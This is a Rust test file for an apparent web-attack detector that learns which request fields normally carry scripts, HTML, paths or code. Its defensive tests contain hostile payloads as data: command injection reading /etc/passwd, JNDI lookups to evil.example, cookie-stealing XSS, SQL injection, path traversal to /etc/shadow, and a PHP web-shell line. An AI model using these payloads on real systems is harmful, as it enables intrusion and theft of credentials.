//! Field context through the detector: learning, downgrades, poisoning, pins, snapshots.

use sentrace_core::TenantId;
use sentrace_core::proto::common::v1::{AnyValue, KeyValue, any_value::Value};
use sentrace_core::proto::resource::v1::Resource;
use sentrace_core::proto::trace::v1::{ResourceSpans, ScopeSpans, Span};

use crate::rules::{Family, Ruleset};
use crate::{Detector, Finding};

const SEC: u64 = 1_000_000_000;
const T0: u64 = 1_700_000_000 * SEC;

fn kv(k: &str, v: &str) -> KeyValue {
    KeyValue {
        key: k.into(),
        value: Some(AnyValue {
            value: Some(Value::StringValue(v.into())),
        }),
        ..Default::default()
    }
}

/// A POST to `route` of `service` from `client` at `at` with a JSON body.
fn post(
    n: u64,
    service: &str,
    route: &str,
    client: &str,
    at: u64,
    body: &str,
) -> Vec<ResourceSpans> {
    let mut trace = [0u8; 16];
    trace[..8].copy_from_slice(&(n + 1).to_be_bytes());
    vec![ResourceSpans {
        resource: Some(Resource {
            attributes: vec![kv("service.name", service)],
            ..Default::default()
        }),
        scope_spans: vec![ScopeSpans {
            spans: vec![Span {
                trace_id: trace.to_vec(),
                span_id: (n + 1).to_be_bytes().to_vec(),
                kind: 2,
                start_time_unix_nano: at,
                end_time_unix_nano: at + 1000,
                attributes: vec![
                    kv("http.request.method", "POST"),
                    kv("http.route", route),
                    kv("client.address", client),
                    kv("http.request.body", body),
                ],
                ..Default::default()
            }],
            ..Default::default()
        }],
        ..Default::default()
    }]
}

fn json(field: &str, v: &str) -> String {
    serde_json::json!({ field: v, "ref": "build 7" }).to_string()
}

fn detector(extra: &str) -> Detector {
    let mut r = Ruleset::default_ruleset().unwrap();
    let ov = crate::RulesetOverride::from_toml(
        "t.toml",
        &format!("[context]\nmin_sources = 10\nmin_secs = 60\n{extra}"),
    )
    .unwrap();
    r = r.apply("t.toml", &ov).unwrap();
    Detector::new(r).unwrap()
}

const SCRIPTS: &[&str] = &[
    "npm ci && npm test; chmod +x ./deploy.sh",
    "curl -fsSL https://get.example.dev/install.sh -o install.sh\nsh install.sh",
    "rm -rf build dist\nmake -j$(nproc) all",
    "cd packages/web && npm run build | tee build.log",
];
const PAGES: &[&str] = &[
    "<p>Watch below.</p>\n<iframe src=\"https://player.example/embed/x1\" allowfullscreen></iframe>",
    "<figure><iframe src=\"https://video.example.com/embed/a2?rel=0\" allowfullscreen></iframe></figure>",
];

fn max_conf(f: &[Finding], family: Family) -> u8 {
    f.iter()
        .filter(|f| f.family == family)
        .map(|f| f.confidence)
        .max()
        .unwrap_or(0)
}

/// 80 requests each from 20 clients over 240 s: CI scripts and CMS pages.
fn learn(d: &Detector, t: &TenantId) -> u64 {
    let mut n = 0;
    for i in 0..80u64 {
        let client = format!("10.0.{}.{}", (i / 4) % 20, 7);
        let at = T0 + i * 3 * SEC;
        let s = SCRIPTS[i as usize % SCRIPTS.len()];
        d.inspect(
            t,
            &post(n, "ci", "/api/pipelines", &client, at, &json("script", s)),
            at,
        );
        n += 1;
        let p = PAGES[i as usize % PAGES.len()];
        d.inspect(
            t,
            &post(n, "cms", "/pages/{id}", &client, at, &json("html", p)),
            at,
        );
        n += 1;
    }
    n
}

#[test]
fn learned_fields_downgrade_their_normal_shape_and_nothing_else() {
    let d = detector("");
    let t = TenantId::new("acme").unwrap();
    // Before learning, the normal values are findings at their rules' confidence.
    let at = T0;
    let f = d.inspect(
        &t,
        &post(
            9_000,
            "ci",
            "/api/pipelines",
            "10.1.1.1",
            at,
            &json("script", SCRIPTS[0]),
        ),
        at,
    );
    assert!(max_conf(&f, Family::Cmdi) >= 80, "{f:?}");
    let n = learn(&d, &t);
    let later = T0 + 300 * SEC;
    let send = |k: u64, service: &str, route: &str, body: String| {
        d.inspect(
            &t,
            &post(n + k, service, route, "10.9.9.9", later, &body),
            later,
        )
    };
    // Normal values: low confidence only.
    for (k, s) in SCRIPTS.iter().enumerate() {
        let f = send(k as u64, "ci", "/api/pipelines", json("script", s));
        assert!(f.iter().all(|f| f.confidence < 40), "{f:?}");
        assert!(f.iter().any(|f| f.message.contains("downgraded")), "{f:?}");
    }
    for (k, p) in PAGES.iter().enumerate() {
        let f = send(10 + k as u64, "cms", "/pages/{id}", json("html", p));
        assert!(f.iter().all(|f| f.confidence < 40), "{f:?}");
    }
    // The same content in a field that never carries it stays high.
    let f = send(
        20,
        "ci",
        "/api/pipelines",
        json("title", "x; cat /etc/passwd"),
    );
    assert!(max_conf(&f, Family::Cmdi) >= 80, "{f:?}");
    let f = send(21, "cms", "/pages/{id}", json("title", PAGES[0]));
    assert!(max_conf(&f, Family::Xss) >= 80, "{f:?}");
    // Other families in the learned fields stay high.
    let f = send(
        22,
        "ci",
        "/api/pipelines",
        json("script", "${jndi:ldap://evil.example/a}"),
    );
    assert!(max_conf(&f, Family::Jndi) >= 80, "{f:?}");
    let f = send(
        23,
        "cms",
        "/pages/{id}",
        json("html", "<img src=x onerror=alert(1)>"),
    );
    assert!(
        max_conf(&f, Family::Xss) >= 80,
        "active markup was never learned: {f:?}"
    );
    let f = send(
        24,
        "cms",
        "/pages/{id}",
        json("html", "<script>alert(document.cookie)</script>"),
    );
    assert!(max_conf(&f, Family::Xss) >= 80, "{f:?}");
    let f = send(
        25,
        "ci",
        "/api/pipelines",
        json("script", "1' union select password from users--"),
    );
    assert!(max_conf(&f, Family::Sqli) >= 75, "{f:?}");
    // Shell in the HTML field, markup in the script field: not their shape.
    let f = send(26, "cms", "/pages/{id}", json("html", "a; cat /etc/passwd"));
    assert!(max_conf(&f, Family::Cmdi) >= 80, "{f:?}");
    // Another service's field of the same name learned nothing.
    let f = send(27, "billing", "/api/pipelines", json("script", SCRIPTS[0]));
    assert!(max_conf(&f, Family::Cmdi) >= 80, "{f:?}");
    let profiles = d.field_profiles(&t);
    let script = profiles.iter().find(|p| p.field == "body.script").unwrap();
    assert!(script.structures().contains(&"shell"), "{script:?}");
    assert!(!script.structures().contains(&"html"));
}

#[test]
fn one_client_or_a_short_burst_teaches_nothing() {
    let d = detector("");
    let t = TenantId::new("acme").unwrap();
    // One client, 500 times over ten minutes.
    for i in 0..500u64 {
        let at = T0 + i * SEC;
        d.inspect(
            &t,
            &post(
                i,
                "ci",
                "/api/pipelines",
                "10.6.6.6",
                at,
                &json("script", SCRIPTS[0]),
            ),
            at,
        );
    }
    // Many clients within ten seconds.
    for i in 0..50u64 {
        let at = T0 + 600 * SEC + (i % 10) * SEC;
        let c = format!("10.7.0.{i}");
        d.inspect(
            &t,
            &post(
                600 + i,
                "cms",
                "/pages/{id}",
                &c,
                at,
                &json("html", PAGES[0]),
            ),
            at,
        );
    }
    // No client address at all: values, but no sources.
    let at = T0 + 700 * SEC;
    let f = d.inspect(
        &t,
        &post(
            900,
            "ci",
            "/api/pipelines",
            "10.8.8.8",
            at,
            &json("script", SCRIPTS[0]),
        ),
        at,
    );
    assert!(max_conf(&f, Family::Cmdi) >= 80, "{f:?}");
    let f = d.inspect(
        &t,
        &post(
            901,
            "cms",
            "/pages/{id}",
            "10.8.8.8",
            at,
            &json("html", PAGES[0]),
        ),
        at,
    );
    assert!(max_conf(&f, Family::Xss) >= 80, "{f:?}");
    let p = d.field_profiles(&t);
    let script = p.iter().find(|p| p.field == "body.script").unwrap();
    assert!(script.structures().is_empty(), "{script:?}");
    assert!(script.values >= 500);
}

#[test]
fn values_flagged_at_high_confidence_are_never_learned_from() {
    let d = detector("");
    let t = TenantId::new("acme").unwrap();
    // Many clients over time, but every request also carries a JNDI lookup.
    for i in 0..60u64 {
        let at = T0 + i * 5 * SEC;
        let c = format!("10.0.0.{i}");
        let body = serde_json::json!({"script": SCRIPTS[0], "ref": "${jndi:ldap://x.example/a}"})
            .to_string();
        d.inspect(&t, &post(i, "ci", "/api/pipelines", &c, at, &body), at);
    }
    let at = T0 + 400 * SEC;
    let f = d.inspect(
        &t,
        &post(
            99,
            "ci",
            "/api/pipelines",
            "10.9.0.1",
            at,
            &json("script", SCRIPTS[0]),
        ),
        at,
    );
    assert!(max_conf(&f, Family::Cmdi) >= 80, "{f:?}");
}

#[test]
fn pins_carry_and_never() {
    let d = detector(
        "learn = false\n[[context.pin]]\nservice = \"ci\"\nfield = \"body.script\"\ncarries = [\"shell\"]\n",
    );
    let t = TenantId::new("acme").unwrap();
    let f = d.inspect(
        &t,
        &post(
            1,
            "ci",
            "/api/pipelines",
            "10.0.0.1",
            T0,
            &json("script", SCRIPTS[0]),
        ),
        T0,
    );
    assert!(
        !f.is_empty() && f.iter().all(|f| f.confidence < 40),
        "{f:?}"
    );
    let f = d.inspect(
        &t,
        &post(
            2,
            "ci",
            "/api/pipelines",
            "10.0.0.1",
            T0,
            &json("title", SCRIPTS[0]),
        ),
        T0,
    );
    assert!(max_conf(&f, Family::Cmdi) >= 80, "{f:?}");
    // `never` keeps a structure out even when traffic would teach it.
    let d = detector(
        "[[context.pin]]\nservice = \"*\"\nfield = \"body.script\"\nnever = [\"shell\"]\n",
    );
    learn(&d, &t);
    let at = T0 + 300 * SEC;
    let f = d.inspect(
        &t,
        &post(
            500,
            "ci",
            "/api/pipelines",
            "10.0.0.1",
            at,
            &json("script", SCRIPTS[0]),
        ),
        at,
    );
    assert!(max_conf(&f, Family::Cmdi) >= 80, "{f:?}");
    let bad = crate::RulesetOverride::from_toml(
        "t.toml",
        "[[context.pin]]\nservice = \"ci\"\nfield = \"body.x\"\ncarries = [\"bash\"]\n",
    )
    .unwrap();
    let e = Ruleset::default_ruleset()
        .unwrap()
        .apply("t.toml", &bad)
        .unwrap_err()
        .to_string();
    assert!(e.contains("unknown structure") && e.contains("bash"), "{e}");
}

#[test]
fn profiles_survive_a_snapshot_and_format_1_still_reads() {
    let d = detector("");
    let t = TenantId::new("acme").unwrap();
    learn(&d, &t);
    let snaps = d.baseline_snapshots();
    assert_eq!(snaps.len(), 1);
    assert_eq!(snaps[0].format, crate::behavior::BASELINE_FORMAT);
    assert!(!snaps[0].profiles.is_empty());
    let bytes = serde_json::to_vec(&snaps[0]).unwrap();
    let back = detector("");
    back.restore_baseline(&t, serde_json::from_slice(&bytes).unwrap())
        .unwrap();
    let at = T0 + 300 * SEC;
    let f = back.inspect(
        &t,
        &post(
            7_000,
            "ci",
            "/api/pipelines",
            "10.9.9.9",
            at,
            &json("script", SCRIPTS[1]),
        ),
        at,
    );
    assert!(
        !f.is_empty() && f.iter().all(|f| f.confidence < 40),
        "{f:?}"
    );
    // A format-1 snapshot (no profiles) is read.
    let mut v: serde_json::Value = serde_json::from_slice(&bytes).unwrap();
    v["format"] = 1.into();
    v.as_object_mut().unwrap().remove("profiles");
    let old: crate::behavior::BaselineSnapshot = serde_json::from_value(v).unwrap();
    detector("").restore_baseline(&t, old).unwrap();
    // Profile changes alone make a snapshot.
    let at = T0 + 400 * SEC;
    back.inspect(
        &t,
        &post(
            7_001,
            "ci",
            "/api/pipelines",
            "10.9.9.9",
            at,
            &json("script", "ls -la"),
        ),
        at,
    );
    let again = back.baseline_snapshots();
    assert_eq!(again.len(), 1, "changed profiles are saved");
}

/// What an admin console's file manager sends in `path`, and a document store's `file`.
const SYSTEM_PATHS: &[&str] = &[
    "/var/www/html/index.php",
    "/etc/nginx/sites-available/shop.conf",
    "/var/log/nginx/access.log",
    "/home/deploy/.profile",
];
const DOC_PATHS: &[&str] = &[
    "/srv/files/alice/report.pdf",
    "/srv/files/bob/2024/budget.xlsx",
    "docs/guide/intro.md",
];

#[test]
fn a_field_of_system_paths_downgrades_absolute_path_reads_and_name_fields_stay_high() {
    let d = detector("");
    let t = TenantId::new("acme").unwrap();
    let mut n = 0;
    for i in 0..80u64 {
        let client = format!("10.0.{}.9", (i / 4) % 20);
        let at = T0 + i * 3 * SEC;
        let body = serde_json::json!({
            "path": SYSTEM_PATHS[i as usize % SYSTEM_PATHS.len()],
            "file": DOC_PATHS[i as usize % DOC_PATHS.len()],
            "name": "shop.conf",
        })
        .to_string();
        d.inspect(&t, &post(n, "admin", "/api/files", &client, at, &body), at);
        n += 1;
    }
    let p = d
        .field_profiles(&t)
        .into_iter()
        .find(|p| p.field == "body.path")
        .unwrap();
    assert!(p.structures().contains(&"system_path"), "{p:?}");
    let p = d
        .field_profiles(&t)
        .into_iter()
        .find(|p| p.field == "body.file")
        .unwrap();
    assert!(p.structures().contains(&"path"), "{p:?}");
    assert!(!p.structures().contains(&"system_path"), "{p:?}");
    let later = T0 + 300 * SEC;
    let send = |k: u64, field: &str, v: &str| {
        let body = serde_json::json!({ field: v }).to_string();
        d.inspect(
            &t,
            &post(n + k, "admin", "/api/files", "10.9.9.9", later, &body),
            later,
        )
    };
    let reads = ["/etc/ssl/openssl.cnf", "/etc/passwd", "/proc/self/environ"];
    for (k, v) in reads.iter().enumerate() {
        // The file manager's field: its normal shape, downgraded and flagged as such.
        let f = send(k as u64, "path", v);
        assert!(
            !f.is_empty() && f.iter().all(|f| f.confidence < 40 && f.downgraded),
            "{v}: {f:?}"
        );
        // A name field never carried a path: high.
        let f = send(10 + k as u64, "name", v);
        assert!(max_conf(&f, Family::PathTraversal) >= 75, "{v}: {f:?}");
        assert!(f.iter().all(|f| !f.downgraded), "{f:?}");
        // Near miss: a field of ordinary paths learned `path`, not system paths.
        let f = send(20 + k as u64, "file", v);
        assert!(max_conf(&f, Family::PathTraversal) >= 75, "{v}: {f:?}");
    }
    // Dot-dot was never learned, not even in the file manager's field.
    let f = send(30, "path", "/var/www/html/../../../etc/shadow");
    assert!(max_conf(&f, Family::PathTraversal) >= 75, "{f:?}");
    // Ordinary paths in the file manager's field raise nothing.
    let f = send(31, "path", "/var/www/html/about.php");
    assert!(f.iter().all(|f| f.confidence < 40), "{f:?}");
}

#[test]
fn a_pin_of_system_paths_downgrades_from_the_first_request() {
    let d = detector(
        "[[context.pin]]\nservice = \"admin\"\nfield = \"body.file\"\ncarries = [\"system_path\"]\n",
    );
    let t = TenantId::new("acme").unwrap();
    let body = |field: &str| serde_json::json!({ field: "/etc/nginx/nginx.conf" }).to_string();
    let f = d.inspect(
        &t,
        &post(1, "admin", "/api/files", "10.1.1.1", T0, &body("file")),
        T0,
    );
    assert!(
        !f.is_empty() && f.iter().all(|f| f.downgraded && f.confidence < 40),
        "{f:?}"
    );
    assert!(f[0].evidences[0].reason.contains("pinned"), "{f:?}");
    let f = d.inspect(
        &t,
        &post(2, "admin", "/api/files", "10.1.1.1", T0, &body("id")),
        T0,
    );
    assert!(max_conf(&f, Family::PathTraversal) >= 75, "{f:?}");
    assert!(f.iter().all(|f| !f.downgraded), "{f:?}");
}

/// A save while batches run sees each batch whole: the field profile and the behavioral
/// evidence of the same spans, never one without the other (a save between them, then a
/// crash, restored profiles without warm-up evidence).
#[test]
fn snapshots_never_hold_half_a_batch() {
    let d = std::sync::Arc::new(detector(""));
    let t = TenantId::new("acme").unwrap();
    let batches = 300u64;
    let writer = {
        let (d, t) = (d.clone(), t.clone());
        std::thread::spawn(move || {
            for i in 0..batches {
                let at = T0 + i * SEC;
                let body = json("script", SCRIPTS[i as usize % SCRIPTS.len()]);
                d.inspect(
                    &t,
                    &post(i, "ci", "/api/pipelines", "10.0.0.1", at, &body),
                    at,
                );
            }
        })
    };
    let mut checked = 0;
    loop {
        let done = writer.is_finished();
        for snap in d.baseline_snapshots() {
            let profiled = snap
                .profiles
                .iter()
                .find(|p| p.field == "body.script")
                .map_or(0, |p| p.values);
            let v = serde_json::to_value(&snap).unwrap();
            let spans = v["services"]
                .as_array()
                .and_then(|a| a.iter().find(|s| s[0] == "ci"))
                .and_then(|s| s[1]["spans"].as_u64())
                .unwrap_or(0);
            assert_eq!(profiled, spans, "a snapshot with half a batch");
            checked += 1;
        }
        if done {
            break;
        }
    }
    writer.join().unwrap();
    assert!(checked >= 1);
    // The last snapshot holds every batch.
    d.mark_baseline_unsaved(&t);
    let last = d.baseline_snapshots();
    let script = last[0].profiles.iter().find(|p| p.field == "body.script");
    assert_eq!(script.map(|p| p.values), Some(batches));
}

/// What a paste service's `content` field receives: code in several languages, some of
/// which a code-injection rule matches (`${base}` is PHP's variable-variable syntax too).
const SNIPPETS: &[&str] = &[
    "const url = `${base}/api/${id}`;\nfetch(url).then(r => r.json());",
    "def total(items):\n    return sum(i.price * i.qty for i in items)",
    "$handler = $this->router->match($path);\n$handler($request);",
    "if err != nil {\n\treturn fmt.Errorf(\"open %s: %w\", path, err)\n}",
];

#[test]
fn a_field_of_code_downgrades_code_injection_hits_and_other_fields_stay_high() {
    let d = detector("");
    let t = TenantId::new("acme").unwrap();
    let send = |n: u64, client: &str, at: u64, field: &str, v: &str| {
        let body = serde_json::json!({ field: v, "lang": "js" }).to_string();
        d.inspect(
            &t,
            &post(n, "paste", "/api/snippets", client, at, &body),
            at,
        )
    };
    // Before learning, a snippet is a code-injection finding.
    let f = send(0, "10.1.1.1", T0, "content", SNIPPETS[0]);
    assert!(max_conf(&f, Family::CodeInjection) >= 80, "{f:?}");
    for i in 0..80u64 {
        let client = format!("10.0.{}.5", (i / 4) % 20);
        let at = T0 + i * 3 * SEC;
        send(
            1 + i,
            &client,
            at,
            "content",
            SNIPPETS[i as usize % SNIPPETS.len()],
        );
    }
    let p = d
        .field_profiles(&t)
        .into_iter()
        .find(|p| p.field == "body.content")
        .unwrap();
    assert!(p.structures().contains(&"code"), "{p:?}");
    let lang = d
        .field_profiles(&t)
        .into_iter()
        .find(|p| p.field == "body.lang")
        .unwrap();
    assert!(lang.structures().is_empty(), "{lang:?}");
    let later = T0 + 300 * SEC;
    for (k, v) in SNIPPETS.iter().enumerate() {
        // The code field: its normal shape, downgraded.
        let f = send(100 + k as u64, "10.9.9.9", later, "content", v);
        assert!(f.iter().all(|f| f.confidence < 40), "{v}: {f:?}");
    }
    let f = send(110, "10.9.9.9", later, "content", SNIPPETS[0]);
    assert!(!f.is_empty() && f.iter().all(|f| f.downgraded), "{f:?}");
    // The same snippet in a field that never carried code: high.
    let f = send(111, "10.9.9.9", later, "title", SNIPPETS[0]);
    assert!(max_conf(&f, Family::CodeInjection) >= 80, "{f:?}");
    assert!(f.iter().all(|f| !f.downgraded), "{f:?}");
    // Near misses in the code field: an injection that is not a program (no statement),
    // and JNDI (no field carries it).
    for (k, (v, family)) in [
        ("';system('id');//", Family::CodeInjection),
        ("${jndi:ldap://evil.example/a}", Family::Jndi),
    ]
    .into_iter()
    .enumerate()
    {
        let f = send(120 + k as u64, "10.9.9.9", later, "content", v);
        assert!(max_conf(&f, family) >= 80, "{v}: {f:?}");
    }
}

#[test]
fn one_client_sending_code_teaches_no_field_code() {
    let d = detector("");
    let t = TenantId::new("acme").unwrap();
    for i in 0..200u64 {
        let at = T0 + i * 2 * SEC;
        let body = json("content", SNIPPETS[i as usize % SNIPPETS.len()]);
        d.inspect(
            &t,
            &post(i, "paste", "/api/snippets", "10.66.0.1", at, &body),
            at,
        );
    }
    let p = d
        .field_profiles(&t)
        .into_iter()
        .find(|p| p.field == "body.content")
        .unwrap();
    assert!(
        p.values >= 200 && !p.structures().contains(&"code"),
        "{p:?}"
    );
    let later = T0 + 500 * SEC;
    let f = d.inspect(
        &t,
        &post(
            999,
            "paste",
            "/api/snippets",
            "10.9.9.9",
            later,
            &json("content", SNIPPETS[0]),
        ),
        later,
    );
    assert!(max_conf(&f, Family::CodeInjection) >= 80, "{f:?}");
}

#[test]
fn a_pin_of_code_downgrades_snippets_from_the_first_request() {
    let d = detector(
        "[[context.pin]]\nservice = \"paste\"\nfield = \"body.content\"\ncarries = [\"code\", \"template\"]\n",
    );
    let t = TenantId::new("acme").unwrap();
    let send = |n: u64, field: &str, v: &str| {
        let body = serde_json::json!({ field: v }).to_string();
        d.inspect(
            &t,
            &post(n, "paste", "/api/snippets", "10.1.1.1", T0, &body),
            T0,
        )
    };
    let f = send(1, "content", SNIPPETS[0]);
    assert!(
        !f.is_empty() && f.iter().all(|f| f.downgraded && f.confidence < 40),
        "{f:?}"
    );
    assert!(f[0].evidences[0].reason.contains("pinned"), "{f:?}");
    // Not pinned to carry markup: PHP code inside markup the pin does not name stays high.
    let f = send(2, "content", "<p><?php system($_GET['c']); ?></p>");
    assert!(max_conf(&f, Family::CodeInjection) >= 80, "{f:?}");
    let f = send(3, "title", SNIPPETS[0]);
    assert!(max_conf(&f, Family::CodeInjection) >= 80, "{f:?}");
}
